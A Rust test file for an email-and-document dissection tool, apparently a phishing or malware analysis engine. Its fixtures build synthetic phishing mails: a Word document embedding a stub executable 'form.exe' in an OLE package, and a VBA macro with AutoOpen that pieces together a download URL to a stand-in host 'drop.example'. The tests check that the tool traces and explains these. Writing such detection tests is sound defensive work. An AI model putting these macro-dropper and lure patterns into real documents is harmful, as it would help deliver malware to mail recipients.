//! Office documents in mails: the chain from the mail to the file inside the object inside the document, and the way back.

#![allow(clippy::unwrap_used, reason = "a test that cannot build its document fails")]

use creel_dissect::{Limits, dissect, look, reopen};
use creel_evidence::dissection::{Dissection, FeatureKind, LinkContext};
use creel_evidence::{Artifact, ArtifactRole, ContentType, Locus};
use creel_openers::compound::{Item, write};
use std::io::{Cursor, Write as _};
use zip::ZipWriter;
use zip::write::SimpleFileOptions;

fn mail(name: &str, body: &str, content: &[u8]) -> Vec<u8> {
    let encoded = data_encoding::BASE64.encode(content);
    format!(
        "From: a@firm.example\r\nTo: b@corp.example\r\nSubject: papers\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\n{body}\r\n--x\r\n\
         Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\
         Content-Disposition: attachment; filename={name}\r\n\r\n{encoded}\r\n--x--\r\n"
    )
    .into_bytes()
}

fn package(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in parts {
        writer.start_file(*name, SimpleFileOptions::default()).unwrap();
        writer.write_all(bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

/// Names of what is around an artifact, outermost first.
fn chain(dissection: &Dissection, index: usize) -> Vec<String> {
    let mut names = Vec::new();
    let mut at = Some(index);
    while let Some(artifact) = at.and_then(|at| dissection.artifacts.get(at)) {
        names.push(artifact.name.clone().unwrap_or_else(|| artifact.role.to_string()));
        at = artifact.parent;
    }
    names.reverse();
    names
}

/// What stands at a place, had by following the derivations again from the raw mail.
fn stands(raw: &[u8], dissection: &Dissection, at: &Locus) -> String {
    let index = dissection.artifacts.iter().position(|artifact| artifact.id == at.artifact).unwrap();
    let bytes = reopen(raw, &dissection.artifacts, index).unwrap();
    let view = look(&bytes, &dissection.artifacts[index], at.view);
    String::from_utf8_lossy(&view[at.range.range()]).into_owned()
}

fn all_can_be_had_again(raw: &[u8], dissection: &Dissection) {
    for (index, artifact) in dissection.artifacts.iter().enumerate() {
        let bytes = reopen(raw, &dissection.artifacts, index).unwrap();
        assert_eq!(creel_evidence::ArtifactId::of(&bytes), artifact.id, "{:?}", artifact.derivation);
    }
    for link in &dissection.links {
        stands(raw, dissection, &link.at);
    }
    for feature in &dissection.features {
        stands(raw, dissection, &feature.at);
    }
}

/// A package of the Object Packager in a stream `Ole10Native`.
fn packaged(name: &str, content: &[u8]) -> Vec<u8> {
    let mut data = vec![2, 0];
    for text in [name, "C:\\papers\\a"] {
        data.extend(text.as_bytes());
        data.push(0);
    }
    data.extend([0, 0, 3, 0, 1, 0, 0, 0, 0]);
    data.extend((content.len() as u32).to_le_bytes());
    data.extend(content);
    let native = [&(data.len() as u32).to_le_bytes()[..], &data].concat();
    write([0; 16], &[Item { name: "\u{1}Ole10Native".into(), parent: None, content: Some(native) }])
}

/// A VBA project with one module, whose source stands uncompressed in its container.
fn project(source: &str) -> Vec<u8> {
    let container = |bytes: &[u8]| {
        let header = 0x3000 | (bytes.len() - 1) as u16;
        [&[1][..], &header.to_le_bytes(), bytes].concat()
    };
    let mut dir = Vec::new();
    for (id, data) in [(0x19u16, &b"M"[..]), (0x1a, b"M"), (0x31, &[0, 0, 0, 0])] {
        dir.extend(id.to_le_bytes());
        dir.extend((data.len() as u32).to_le_bytes());
        dir.extend(data);
    }
    let stream =
        |name: &str, content: Vec<u8>| Item { name: name.into(), parent: Some(0), content: Some(content) };
    write(
        [0; 16],
        &[
            Item { name: "VBA".into(), parent: None, content: None },
            stream("dir", container(&dir)),
            stream("M", container(source.as_bytes())),
        ],
    )
}

const DOCUMENT: &[u8] = br#"<w:document><w:p><w:r><w:t>Please </w:t></w:r><w:hyperlink r:id="rId1"><w:r><w:t>sign here</w:t></w:r></w:hyperlink><w:r><w:object><o:OLEObject ProgID="Package"/></w:object></w:r></w:p></w:document>"#;
const LINKS: &[u8] = br#"<Relationships><Relationship Id="rId1" Type="x/hyperlink" Target="https://sign.example/?a=1&amp;b=2" TargetMode="External"/></Relationships>"#;

#[test]
fn the_chain_leads_from_the_mail_to_the_program_in_the_object_in_the_document() {
    let program = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0";
    let document = package(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("word/document.xml", DOCUMENT),
        ("word/_rels/document.xml.rels", LINKS),
        ("word/embeddings/oleObject1.bin", &packaged("form.exe", program)),
    ]);
    let raw = mail("papers.docx", "See the papers.", &document);
    let dissection = dissect(&raw, &Limits::default()).dissection;
    all_can_be_had_again(&raw, &dissection);
    let index = dissection.artifacts.iter().position(|a| a.content_type == ContentType::Executable).unwrap();
    assert_eq!(
        chain(&dissection, index),
        ["submission", "papers.docx", "word/embeddings/oleObject1.bin", "form.exe"]
    );
    assert!(dissection.files().any(|file: &Artifact| file.name.as_deref() == Some("form.exe")));

    let link = dissection.links.iter().find(|link| link.context == LinkContext::Document).unwrap();
    assert_eq!((link.raw.as_str(), link.text.as_str()), ("https://sign.example/?a=1&b=2", "sign here"));
    assert_eq!(stands(&raw, &dissection, &link.at), "https://sign.example/?a=1&amp;b=2");
    let text = dissection.texts.iter().find(|text| text.role == ArtifactRole::Content).unwrap();
    assert_eq!(text.visible.text, "Please sign here\n");
    let objects = dissection.features.iter().filter(|feature| feature.kind == FeatureKind::EmbeddedObject);
    assert_eq!(objects.count(), 2, "as the document and as the object say it");
}

#[test]
fn an_address_that_a_macro_puts_together_is_found_and_can_be_explained() {
    let source = "Attribute VB_Name = \"M\"\r\nSub AutoOpen()\r\n a = \"https://\"\r\n a = a & \"drop.\" & \"example/\" & Chr(112)\r\n Fetch a\r\nEnd Sub\r\n";
    let document = package(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("word/document.xml", DOCUMENT),
        ("word/vbaProject.bin", &project(source)),
    ]);
    let raw = mail("papers.docm", "Enable the content.", &document);
    let dissection = dissect(&raw, &Limits::default()).dissection;
    all_can_be_had_again(&raw, &dissection);
    let link = dissection.links.iter().find(|link| link.context == LinkContext::Script).unwrap();
    assert_eq!(link.raw, "https://drop.example/p");
    let stretch = stands(&raw, &dissection, &link.at);
    assert_eq!(creel_openers::vba::last(&stretch).as_deref(), Some("https://drop.example/p"));
    let auto_run = dissection.features.iter().find(|feature| feature.kind == FeatureKind::AutoRun).unwrap();
    assert_eq!(stands(&raw, &dissection, &auto_run.at), "AutoOpen");
}

#[test]
fn an_object_in_rtf_is_opened_in_turn() {
    let hex = data_encoding::HEXLOWER.encode(&packaged("note.txt", b"see https://n.example/x"));
    let rtf = format!("{{\\rtf1 Agenda{{\\object\\objemb{{\\*\\objdata ffff{hex}}}}}}}");
    let raw = mail("agenda.doc", "The agenda.", rtf.as_bytes());
    let dissection = dissect(&raw, &Limits::default()).dissection;
    all_can_be_had_again(&raw, &dissection);
    assert!(dissection.links.iter().any(|link| link.raw == "https://n.example/x"));
}
